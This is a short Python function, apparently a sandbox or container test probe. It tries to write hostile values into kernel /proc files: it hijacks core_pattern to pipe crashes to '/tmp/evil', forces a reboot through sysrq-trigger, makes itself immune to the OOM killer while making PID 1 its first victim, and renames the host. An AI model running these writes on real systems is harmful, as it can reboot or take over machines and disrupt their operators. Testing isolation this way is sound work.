# Tries to change the kernel's settings, and to stand first in line for being spared.
def attack():
    for path, text in (("/proc/sys/kernel/core_pattern", "|/tmp/evil"), ("/proc/sys/vm/drop_caches", "3"),
                       ("/proc/sysrq-trigger", "b"), ("/proc/self/oom_score_adj", "-1000"),
                       ("/proc/sys/kernel/hostname", "evil"), ("/proc/1/oom_score_adj", "1000")):
        try:
            with open(path, "w") as file: file.write(text)
            print("LOOT", path)
        except OSError: pass
